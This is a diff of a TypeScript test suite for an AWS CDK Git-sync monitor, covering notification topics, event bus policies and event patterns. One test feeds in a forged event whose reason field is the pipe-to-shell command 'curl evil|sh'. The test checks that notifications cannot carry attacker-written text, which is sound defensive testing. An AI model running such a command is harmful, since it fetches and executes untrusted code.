@@ -41,7 +41,7 @@ interface RuleProperties {
   }[];
 }
 
-/** What a topic reads of an event, from the account that EventBridge knows. */
+/** The lines that a topic receives for an event from an account. */
 function rendered({ Targets }: RuleProperties, detail: object, account: string): string[] {
   const { InputPathsMap, InputTemplate } = Targets[0].InputTransformer;
   const lines: string[] = InputTemplate.split('\n').map((line: string) => JSON.parse(line));
@@ -69,10 +69,10 @@ const BLOCKED: ProblemDetail = {
   resolveByConstruct: 'new SyncBlockerResolution(…)',
 };
 
-describe('notifications', () => {
+describe('messages to the notification topic', () => {
   const environment = (stack: Stack) => resources(stack, 'AWS::Lambda::Function')[0].Environment.Variables;
 
-  test('nobody is told by default, and the function may publish nowhere', () => {
+  test('are not sent by default, and the function may publish nowhere', () => {
     const stack = newStack();
     monitorIn(stack);
     expect(Object.keys(environment(stack))).toEqual(['STATE_TABLE_NAME', 'EVENT_BUS_NAME', 'STUCK_AFTER_SECONDS']);
@@ -83,16 +83,19 @@ describe('notifications', () => {
     [undefined, 'true'],
     [true, 'true'],
     [false, 'false'],
-  ])('are sent by the function; of what is over as well: notifyOnResolved %s', (notifyOnResolved, expected) => {
-    const stack = newStack();
-    monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyOnResolved });
-    expect(environment(stack)).toMatchObject({
-      NOTIFICATION_TOPIC_ARN: { Ref: expect.stringMatching(/^Topic/) },
-      NOTIFY_ON_RESOLVED: expected,
-    });
-  });
+  ])(
+    'are sent by the function, also at the end of a problem unless notifyOnResolved is false: %s',
+    (notifyOnResolved, expected) => {
+      const stack = newStack();
+      monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyOnResolved });
+      expect(environment(stack)).toMatchObject({
+        NOTIFICATION_TOPIC_ARN: { Ref: expect.stringMatching(/^Topic/) },
+        NOTIFY_ON_RESOLVED: expected,
+      });
+    },
+  );
 
-  test('are made of nothing that comes from a bus: no rule tells the topic', () => {
+  test('do not come from an event bus: no rule has the topic as its target', () => {
     const stack = newStack();
     monitorIn(stack, { notificationTopic: new Topic(stack, 'Topic') });
     const targets = resources(stack, 'AWS::Events::Rule').flatMap(({ Targets }) => Targets);
@@ -101,7 +104,7 @@ describe('notifications', () => {
     );
   });
 
-  test.each(['notificationTopic', 'alarmTopic'])('a %s in another Region is refused: it is never reached', (name) => {
+  test.each(['notificationTopic', 'alarmTopic'])('a %s in another Region is refused', (name) => {
     const stack = newStack();
     const topic = Topic.fromTopicArn(stack, 'Elsewhere', `arn:aws:sns:us-east-1:${ACCOUNT}:git`);
     expect(() => monitorIn(stack, { [name]: topic })).toThrow(
@@ -109,13 +112,13 @@ describe('notifications', () => {
     );
   });
 
-  test('the Region of a topic may be known at deployment only', () => {
+  test('can go to a topic whose Region is known at deployment only', () => {
     const stack = newStack();
     const notificationTopic = Topic.fromTopicArn(stack, 'Elsewhere', token(stack));
     expect(() => monitorIn(stack, { notificationTopic })).not.toThrow();
   });
 
-  test.each(TOPICS)('%s is told by the function, which may publish there only', (_, make) => {
+  test.each(TOPICS)('can go to %s, the only topic to which the function may publish', (_, make) => {
     const stack = newStack();
     const notificationTopic = make(stack);
     const Resource = stack.resolve(notificationTopic.topicRef.topicArn);
@@ -129,7 +132,7 @@ describe('notifications', () => {
   test.each<[string, (stack: Stack, key: Key) => ITopicRef]>([
     ['a topic', (stack, masterKey) => new Topic(stack, 'Encrypted', { masterKey })],
     ['an L1', (stack, key) => new CfnTopic(stack, 'Encrypted', { kmsMasterKeyId: key.keyId })],
-  ])('the key of an encrypted topic may be used: %s', (_, make) => {
+  ])('can go to an encrypted topic, %s: the function may use its key', (_, make) => {
     const stack = newStack();
     const key = new Key(stack, 'Key');
     monitorIn(stack, { notificationTopic: make(stack, key) });
@@ -149,7 +152,7 @@ describe('a monitor with a central event bus', () => {
     ['an L1', (stack) => new CfnEventBus(stack, 'Central', { name: 'git-sync' })],
   ];
 
-  test.each(BUSES)('%s is told by the function itself, with a role that the bus can tell from others', (_, make) => {
+  test.each(BUSES)('%s receives events of the function itself, with a role that the bus recognizes', (_, make) => {
     const stack = newStack();
     const centralEventBus = make(stack);
     const Arn = stack.resolve(centralEventBus.eventBusRef.eventBusArn);
@@ -163,12 +166,12 @@ describe('a monitor with a central event bus', () => {
     );
     expect(statements).toContainEqual({
       Effect: 'Allow',
-      Action: ['events:PutEvents'],
+      Action: 'events:PutEvents',
       Resource: [expect.objectContaining({ 'Fn::Join': expect.anything() }), Arn],
     });
   });
 
-  test('no rule hands events on: whoever may put events on the default bus could have them taken for the monitor’s', () => {
+  test('has no rule that forwards events, which would forward forged events too', () => {
     const stack = newStack();
     monitorIn(stack, { centralEventBus: EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS) });
     const targets = resources(stack, 'AWS::Events::Rule').flatMap(({ Targets }) => Targets);
@@ -176,16 +179,16 @@ describe('a monitor with a central event bus', () => {
     expect(resources(stack, 'AWS::IAM::Role')).toHaveLength(1);
   });
 
-  test('without one the role is as any other', () => {
+  test('has a role with a special path only in this case', () => {
     const stack = newStack();
     monitorIn(stack);
     expect(resources(stack, 'AWS::IAM::Role')).toEqual([expect.not.objectContaining({ Path: expect.anything() })]);
   });
 
-  test('an ARN that stands for several buses is refused', () => {
+  test('refuses an ARN that matches several buses', () => {
     const stack = newStack();
     const centralEventBus = EventBus.fromEventBusArn(stack, 'Central', CENTRAL_BUS.replace('git-sync', '*'));
-    expect(() => monitorIn(stack, { centralEventBus })).toThrow('an ARN in a policy must be that of one resource');
+    expect(() => monitorIn(stack, { centralEventBus })).toThrow(expect.objectContaining({ name: 'InvalidArn' }));
   });
 
   test.each([
@@ -199,19 +202,19 @@ describe('a monitor with a central event bus', () => {
           stack.formatArn({ service: 'events', resource: 'event-bus', resourceName: 'default' }),
         ),
     ],
-  ])('the default bus of the monitor, %s, is refused: it would get its own events without end', (_, make) => {
+  ])('refuses the default event bus of the monitor, given %s', (_, make) => {
     const stack = newStack();
     expect(() => monitorIn(stack, { centralEventBus: make(stack) })).toThrow(
-      "'centralEventBus' must be another event bus than the default one",
+      "'centralEventBus' must not be the default event bus",
     );
   });
 });
 
-describe('a central event bus of an organization', () => {
+describe('the event bus of an organization', () => {
   const busIn = (stack: Stack, props?: Partial<MonitorEventBusProps>) =>
     new MonitorEventBus(stack, 'Central', { organizationId: ORGANIZATION, ...props });
 
-  test('takes events of monitors only, as far as IAM can tell, from accounts of the organization only', () => {
+  test('accepts events of monitors in accounts of the organization only', () => {
     const stack = newStack();
     busIn(stack, { eventBusName: 'git-sync' });
     expect(only(stack, 'AWS::Events::EventBus').Properties).toEqual({ Name: 'git-sync' });
@@ -220,14 +223,14 @@ describe('a central event bus of an organization', () => {
         Effect: 'Allow',
         Principal: '*',
         Action: 'events:PutEvents',
-        Resource: { 'Fn::GetAtt': [expect.stringMatching(/^CentralEventBus/), 'Arn'] },
+        Resource: { 'Fn::GetAtt': [expect.stringMatching(/^CentralBus/), 'Arn'] },
         Condition: {
           StringEquals: {
             'aws:PrincipalOrgID': ORGANIZATION,
             'events:source': EVENT_SOURCE,
             'events:detail-type': [PROBLEM_DETECTED, PROBLEM_RESOLVED],
           },
-          // without this one a call that puts another event, too, would be taken as a whole
+          // without this, a call could put another event beside one of a monitor
           'ForAllValues:StringEquals': {
             'events:source': EVENT_SOURCE,
             'events:detail-type': [PROBLEM_DETECTED, PROBLEM_RESOLVED],
@@ -242,28 +245,28 @@ describe('a central event bus of an organization', () => {
     });
   });
 
-  test('tells a topic where there is a problem, with nothing that whoever put the event could write', () => {
+  test('sends the account and Region of a problem to a topic, without text that an event could forge', () => {
     const stack = newStack();
     busIn(stack, { notificationTopic: new Topic(stack, 'Topic') });
     const rules = resources(stack, 'AWS::Events::Rule');
-    const EventBusName = { Ref: expect.stringMatching(/^CentralEventBus/) };
+    const EventBusName = { Ref: expect.stringMatching(/^CentralBus/) };
     const known = expect.arrayContaining([REGION, 'us-east-1', 'us-gov-west-1']);
     const unknown = [{ 'anything-but': known }];
     const outcome = [{ 'anything-but': 'SUPERSEDED' }];
-    const [began, ended] = [PROBLEM_DETECTED, PROBLEM_RESOLVED].map((type) => ({
+    const [detected, resolved] = [PROBLEM_DETECTED, PROBLEM_RESOLVED].map((type) => ({
       source: [EVENT_SOURCE],
       'detail-type': [type],
     }));
     expect(rules).toMatchObject([
-      { EventBusName, EventPattern: { ...began, detail: { region: known } } },
-      { EventBusName, EventPattern: { ...began, detail: { region: unknown } } },
-      { EventBusName, EventPattern: { ...ended, detail: { region: known, outcome } } },
-      { EventBusName, EventPattern: { ...ended, detail: { region: unknown, outcome } } },
+      { EventBusName, EventPattern: { ...detected, detail: { region: known } } },
+      { EventBusName, EventPattern: { ...detected, detail: { region: unknown } } },
+      { EventBusName, EventPattern: { ...resolved, detail: { region: known, outcome } } },
+      { EventBusName, EventPattern: { ...resolved, detail: { region: unknown, outcome } } },
     ]);
     for (const { EventPattern } of rules) {
       for (const name of [EventPattern.detail.region].flat())
         if (typeof name === 'string') expect(name).toMatch(/^[a-z-]+-\d$/);
-      expect(JSON.stringify(EventPattern).length).toBeLessThan(2_048); // what EventBridge takes
+      expect(JSON.stringify(EventPattern).length).toBeLessThan(2_048); // the limit of EventBridge
     }
     expect(rules.map(({ Targets }) => Object.values(Targets[0].InputTransformer.InputPathsMap))).toEqual([
       ['$.account', '$.detail.region'],
@@ -273,14 +276,14 @@ describe('a central event bus of an organization', () => {
     ]);
     const forged = { ...BLOCKED, account: '777788889999', title: 'x', reason: 'Run this:\n  curl evil|sh' };
     expect(rules.map((rule) => rendered(rule, forged, '444455556666')[0])).toEqual([
-      `Git sync: a problem has begun in the account 444455556666, Region ${REGION}.`,
-      'Git sync: a problem has begun in the account 444455556666, in a Region that is newer than this bus.',
-      `Git sync: a problem is over in the account 444455556666, Region ${REGION}.`,
-      'Git sync: a problem is over in the account 444455556666, in a Region that is newer than this bus.',
+      `Git sync: a problem has started in account 444455556666, Region ${REGION}.`,
+      'Git sync: a problem has started in account 444455556666, in a Region that is newer than this event bus.',
+      `Git sync: a problem has ended in account 444455556666, Region ${REGION}.`,
+      'Git sync: a problem has ended in account 444455556666, in a Region that is newer than this event bus.',
     ]);
   });
 
-  test('tells of what is over only when wanted', () => {
+  test('sends no message at the end of a problem if notifyOnResolved is false', () => {
     const stack = newStack();
     busIn(stack, { notificationTopic: new Topic(stack, 'Topic'), notifyOnResolved: false });
     const types = resources(stack, 'AWS::Events::Rule').map(({ EventPattern }) => EventPattern['detail-type']);
@@ -294,7 +297,7 @@ describe('a central event bus of an organization', () => {
     [`o-${'a'.repeat(33)}`, false],
     ['ou-a1b2-c3d4e5f6', false],
     ['123456789012', false],
-  ])('the organization %s: %s', (organizationId, taken) => {
+  ])('accepts the organization %s: %s', (organizationId, taken) => {
     const make = () => busIn(newStack(), { organizationId });
     if (taken) expect(make).not.toThrow();
     else
@@ -303,20 +306,22 @@ describe('a central event bus of an organization', () => {
       );
   });
 
-  test('a topic in another Region is refused', () => {
+  test('refuses a topic in another Region', () => {
     const stack = newStack();
     const notificationTopic = Topic.fromTopicArn(stack, 'Elsewhere', `arn:aws:sns:us-east-1:${ACCOUNT}:git`);
-    expect(() => busIn(stack, { notificationTopic })).toThrow("'notificationTopic' must be in the Region of the stack");
+    expect(() => busIn(stack, { notificationTopic })).toThrow(
+      expect.objectContaining({ name: 'InvalidMonitorEventBus' }),
+    );
   });
 
-  test('the organization may be a token', () => {
+  test('accepts a token as the organization', () => {
     const stack = newStack();
     expect(() => busIn(stack, { organizationId: token(stack) })).not.toThrow();
   });
 });
 
-describe('patterns of events, for rules of your own', () => {
-  test('the kinds are those of the monitor', () => {
+describe('patterns and fields of events', () => {
+  test('have the kinds of problems of the monitor', () => {
     const kinds: Record<ProblemKind, true> = {
       SYNC_BLOCKED: true,
       SYNC_FAILED: true,
@@ -330,7 +335,7 @@ describe('patterns of events, for rules of your own', () => {
     expect(Object.values(SyncProblemKind)).toEqual(Object.keys(kinds));
   });
 
-  test('what begins and what ends, of some kinds', () => {
+  test('match the start or the end of a problem, of all kinds or of some', () => {
     const kinds = [SyncProblemKind.SYNC_BLOCKED];
     expect([SyncProblemEvents.detectedPattern(), SyncProblemEvents.resolvedPattern({ kinds })]).toEqual([
       { source: [EVENT_SOURCE], detailType: [PROBLEM_DETECTED] },
@@ -338,13 +343,13 @@ describe('patterns of events, for rules of your own', () => {
     ]);
   });
 
-  test('an empty list of kinds is refused', () => {
+  test('refuse an empty list of kinds', () => {
     expect(() => SyncProblemEvents.detectedPattern({ kinds: [] })).toThrow(
-      "'kinds' must have at least 1 entries, got 0",
+      expect.objectContaining({ name: 'InvalidRestriction' }),
     );
   });
 
-  test('a rule on the central bus', () => {
+  test('can be used in a rule on the central event bus', () => {
     const stack = newStack();
     const { eventBus } = new MonitorEventBus(stack, 'Central', { organizationId: ORGANIZATION });
     new Rule(stack, 'Rule', { eventBus, eventPattern: SyncProblemEvents.detectedPattern() });
@@ -355,7 +360,7 @@ describe('patterns of events, for rules of your own', () => {
 
   test.each(
     Object.getOwnPropertyNames(SyncProblemEvent).filter((name) => !['length', 'name', 'prototype'].includes(name)),
-  )('the field %s is one of the event', (name) => {
+  )('the field %s is a member of the event', (name) => {
     const fields: (keyof ProblemDetail)[] = [
       ...(Object.keys(BLOCKED) as (keyof ProblemDetail)[]),
       ...(['stackName', 'repository', 'branch', 'resolvedAt', 'outcome'] as const),
